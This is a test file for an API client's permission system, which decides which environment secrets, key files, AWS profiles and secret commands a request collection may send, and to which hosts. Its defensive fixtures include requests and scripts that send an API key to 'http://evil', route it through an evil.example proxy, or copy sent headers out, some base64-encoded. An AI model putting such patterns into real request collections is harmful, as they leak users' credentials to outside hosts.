import { cp, mkdir, rename, symlink, writeFile } from "node:fs/promises";
import { afterEach, beforeEach, expect, test } from "vitest";
import { openCollection } from "../../collection/open/open-collection.ts";
import {
	type TemporaryFolder,
	temporaryFolder,
} from "../../collection/testing/temporary-folder.ts";
import { NO_GRANTS } from "../../variables/trust/grants.ts";
import { TrustFile } from "../../variables/trust/trust-file.ts";
import {
	type AccessDecisionOptions,
	decideAccess,
	grantsOfAccess,
	trustAccess,
} from "./decide-access.ts";

const request = (lines: string, script = "") =>
	`info:\n  name: a\nhttp:\n  url: "{{host}}/a"\n${lines}\n${script}`;
const header = (value: string) =>
	`  headers:\n    - name: x-key\n      value: "${value}"`;
const before = (code: string) =>
	`runtime:\n  scripts:\n    - type: before-request\n      code: ${JSON.stringify(code)}\n`;

const FILES = {
	"shop/opencollection.yml": "info:\n  name: Shop\n",
	"shop/environments/dev.yml":
		'name: dev\ndotEnvFilePath: ../other/.env\nvariables:\n  - name: host\n    value: https://api.example\n  - name: key\n    value: "{{process.env.API_KEY}}"\n',
	"shop/a.yml": request(header("{{key}}")),
	"other/.env": "DB_PASSWORD=x\n",
};

let folder: TemporaryFolder;
let environment: Record<string, string>;
beforeEach(async () => {
	folder = await temporaryFolder(FILES);
	environment = {
		XDG_CONFIG_HOME: folder.at("config"),
		...{ API_KEY: "k", OTHER_KEY: "o", NPM_TOKEN: "n" },
	};
});
afterEach(() => folder[Symbol.asyncDispose]());

const shop = (name = "shop") => openCollection(folder.at(name));
const write = (file: string, text: string) =>
	writeFile(folder.at(`shop/${file}`), text);

async function decide(
	given: Partial<AccessDecisionOptions> = {},
	name?: string,
) {
	const collection = await shop(name);
	const options = { grants: NO_GRANTS, canAsk: true, environment, ...given };
	return { collection, ...(await decideAccess(collection, options)) };
}

async function trustAll() {
	const { collection, open } = await decide();
	if (open) await trustAccess(collection, open, environment);
}

test("names, files and hosts that nobody allowed are told, and not granted", async () => {
	const { grants, open } = await decide();
	expect(grants).toEqual(NO_GRANTS);
	expect(open).toEqual({
		environment: [
			{ name: "API_KEY", hosts: ["https://api.example"], requests: ["a"] },
		],
		awsProfiles: [],
		files: [{ path: folder.at("other/.env"), role: ".env file" }],
		commands: [],
		encryptedFiles: [],
		sourceHashes: [],
	});
	expect(open && grantsOfAccess(open)).toEqual({
		environment: ["API_KEY"],
		hosts: { API_KEY: ["https://api.example"] },
		files: [folder.at("other/.env")],
		awsProfiles: [],
	});
});

test("nobody is asked for what is not set, is in a .env file, or was allowed", async () => {
	environment = { XDG_CONFIG_HOME: folder.at("config") };
	expect((await decide()).open?.environment).toEqual([]);
	environment.API_KEY = "k";
	await write(".env", "API_KEY=own\n");
	expect((await decide()).open?.environment).toEqual([]);
	await write(".env", "");
	const grants = { ...NO_GRANTS, environment: ["API_KEY"] };
	const fileFolders = [folder.at("other")];
	expect((await decide({ grants, fileFolders })).open).toBeUndefined();
	expect((await decide({ fileFolders })).open?.environment).toHaveLength(1);
	environment.CI = "true";
	expect(await decide({ fileFolders })).toMatchObject({
		grants: { environment: ["*"] },
		open: undefined,
	});
});

test("what was allowed once stays so for this folder, by whichever name, and for no copy, no inner collection", async () => {
	await trustAll();
	await symlink(folder.at("shop"), folder.at("link"));
	const trusted = {
		environment: ["API_KEY"],
		hosts: { API_KEY: ["https://api.example"] },
		files: [folder.at("other/.env")],
		awsProfiles: [],
	};
	for (const name of ["shop", "link"]) {
		const { grants, open } = await decide({}, name);
		expect([grants, open]).toEqual([trusted, undefined]);
	}
	await cp(folder.at("shop"), folder.at("copy"), { recursive: true });
	await cp(folder.at("copy"), folder.at("shop/inner"), { recursive: true });
	for (const name of ["copy", "shop/inner"])
		expect((await decide({}, name)).grants).toEqual(NO_GRANTS);
	await rename(folder.at("shop"), folder.at("moved"));
	expect((await decide({}, "moved")).grants).toEqual(NO_GRANTS);
	expect(await new TrustFile(environment).revoke(folder.at("moved"))).toBe(
		false,
	);
});

test("another name, another host, a script or a proxy that comes in is asked for", async () => {
	await trustAll();
	await write("b.yml", request(header("{{process.env.OTHER_KEY}}")));
	const grown = await decide();
	expect(grown.grants.environment).toEqual(["API_KEY"]);
	expect(grown.open?.environment.map(({ name }) => name)).toEqual([
		"OTHER_KEY",
	]);
	const evil = request(header("{{key}}")).replace("{{host}}", "http://evil");
	const script = request(
		header("{{key}}"),
		before("await client.sendRequest({ url: 'http://evil' })"),
	);
	for (const [text, host] of [
		[evil, "http://evil"],
		[script, "*"],
	] as const) {
		await write("b.yml", text);
		for (const canAsk of [true, false]) {
			const { grants, open } = await decide({ canAsk });
			expect(grants.environment).toEqual([]);
			if (canAsk)
				expect(open?.environment).toMatchObject([
					{ name: "API_KEY", hosts: expect.arrayContaining([host]) },
				]);
		}
	}
	await write("b.yml", request(header("x")));
	expect((await decide()).open).toBeUndefined();
	await write(
		"opencollection.yml",
		"info:\n  name: Shop\nconfig:\n  proxy:\n    config:\n      protocol: http\n      hostname: evil.example\n      port: 3128\n",
	);
	expect((await decide()).open?.environment[0]?.hosts).toContain(
		"the proxy http://evil.example:3128",
	);
});

test("scripts that name a variable have it anywhere; names that they make up are granted to none", async () => {
	await write(
		"a.yml",
		request(
			"",
			before('req.setHeader("x", client.getProcessEnv("NPM_TOKEN"))'),
		),
	);
	expect((await decide()).open?.environment).toEqual([
		{
			name: "NPM_TOKEN",
			hosts: ["*", "https://api.example"],
			requests: ["a"],
		},
	]);
	await trustAll();
	expect((await decide()).grants.environment).toEqual(["NPM_TOKEN"]);
	await write(
		"a.yml",
		request(
			"",
			before('req.setHeader("x", client.getProcessEnv("NPM_" + req.getUrl()))'),
		),
	);
	expect((await decide()).grants.environment).toEqual([]);
});

test("secrets, profiles of AWS, certificates and commands are asked for, too", async () => {
	await mkdir(folder.at("keys"));
	for (const name of ["a.pem", "a.key"])
		await writeFile(folder.at(`keys/${name}`), "x");
	await write(
		"opencollection.yml",
		"info:\n  name: Shop\nextensions:\n  curlew:\n    secrets:\n      pin:\n        source:\n          secretCommand: [op, read, pin]\n      OTHER_KEY: {}\nconfig:\n  clientCertificates:\n    - domain: api.example\n      type: pem\n      certificateFilePath: ../keys/a.pem\n      privateKeyFilePath: ../keys/a.key\n",
	);
	await write(
		"a.yml",
		request(
			`  auth:\n    type: awsv4\n    accessKeyId: ""\n    secretAccessKey: ""\n    service: s3\n    region: eu\n    profileName: staging\n${header("{{OTHER_KEY}}{{pin}}")}`,
		),
	);
	const { open } = await decide();
	expect(open).toMatchObject({
		environment: [{ name: "OTHER_KEY" }],
		awsProfiles: [{ name: "staging", hosts: ["https://api.example"] }],
		commands: ["op read pin"],
	});
	expect(open?.files.map(({ path, role }) => [role, path])).toEqual(
		expect.arrayContaining([
			["certificate", folder.at("keys/a.pem")],
			["key", folder.at("keys/a.key")],
		]),
	);
	await trustAll();
	expect((await decide()).open).toBeUndefined();
});

const SECRET_HOST =
	"name: dev\nvariables:\n  - name: host\n    value: https://hidden.example\n    secret: true\n";

test("a secret value is no part of a host that is shown", async () => {
	await write("environments/dev.yml", SECRET_HOST);
	await write("a.yml", request(header("{{process.env.API_KEY}}")));
	expect((await decide()).open?.environment[0]?.hosts).toEqual([
		expect.stringMatching(/^\{\{host\}\} \(now [0-9a-f]{32}\)$/),
	]);
});

test("a host that only files of the collection tell is asked for again when they change", async () => {
	const own = request(header("{{process.env.API_KEY}}"));
	const fromEnv = own.replace("{{host}}", "{{process.env.BASE}}");
	for (const [file, text, url] of [
		["environments/dev.yml", SECRET_HOST, own],
		[".env", "BASE=https://hidden.example\n", fromEnv],
		[".env", "BASE=https://u:hidden.example@x/\n", fromEnv],
	] as const) {
		await write("a.yml", url);
		await write(file, text);
		await trustAll();
		expect((await decide()).grants.environment).toEqual(["API_KEY"]);
		await write(file, text.replace("https://", "https://evil.example/"));
		for (const canAsk of [true, false])
			expect((await decide({ canAsk })).grants.environment).toEqual([]);
	}
});

test.each(["http:/one.example", "http:////one.example", "http:one.example"])(
	"%s is the host that it is sent to",
	async (url) => {
		const own = request(header("{{process.env.API_KEY}}"));
		await write("a.yml", own.replace("{{host}}", url));
		expect((await decide()).open?.environment[0]?.hosts).toEqual([
			"http://one.example",
		]);
	},
);

const after = (kind: string, code: string) =>
	`runtime:\n  scripts:\n    - type: ${kind}\n      code: ${JSON.stringify(code)}\n`;

test.each([
	["after-response", 'client.setVar("x", JSON.stringify(req.getHeaders()))'],
	["tests", 'const r = req; client.setVar("x", btoa(JSON.stringify(r)))'],
	["tests", 'client.setVar("x", globalThis["req"].headers.a)'],
	["tests", 'client.setVar("x", (function () { return this })().req.url)'],
])(
	"who reads what was sent may send it anywhere: %s, %s",
	async (kind, code) => {
		await trustAll();
		await write("a.yml", request(header("{{key}}"), after(kind, code)));
		const { grants, open } = await decide();
		expect(grants.environment).toEqual([]);
		expect(open?.environment[0]?.hosts).toContain("*");
	},
);

test("an action may hand on what was sent; tests of the response may not", async () => {
	await trustAll();
	await write(
		"a.yml",
		request(
			header("{{key}}"),
			"runtime:\n  actions:\n    - type: set-variable\n      phase: after-response\n      selector:\n        expression: req.headers.x\n        method: jsonq\n      variable:\n        name: x\n        scope: runtime\n",
		),
	);
	expect((await decide()).open?.environment[0]?.hosts).toContain("*");
	await write(
		"a.yml",
		request(
			header("{{key}}"),
			after(
				"tests",
				'test("ok", () => { expect(res.status).to.equal(200); client.setVar("id", res.body.req) })',
			),
		),
	);
	expect((await decide()).open?.environment).toBeUndefined();
});
